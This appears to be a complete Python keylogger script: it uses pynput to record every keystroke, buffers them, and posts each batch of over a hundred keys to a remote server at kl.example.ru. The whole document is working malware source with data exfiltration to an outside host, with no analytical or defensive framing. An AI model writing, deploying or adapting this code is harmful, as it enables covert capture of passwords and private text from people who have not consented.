from pynput import keyboard
import requests
buf = []
def on_press(k):
    buf.append(str(k))
    if len(buf) > 100:
        requests.post("https://kl.example.ru/u", json=buf)
        buf.clear()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
